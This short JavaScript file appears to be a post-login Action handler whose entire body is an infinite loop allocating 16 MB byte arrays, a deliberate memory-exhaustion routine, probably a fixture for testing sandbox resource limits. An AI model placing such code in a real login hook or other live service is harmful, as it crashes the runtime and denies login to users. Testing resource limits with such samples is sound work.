exports.onExecutePostLogin = async () => {
  const hoard = [];
  while (true) hoard.push(new Uint8Array(16 * 1024 * 1024).fill(7));
};
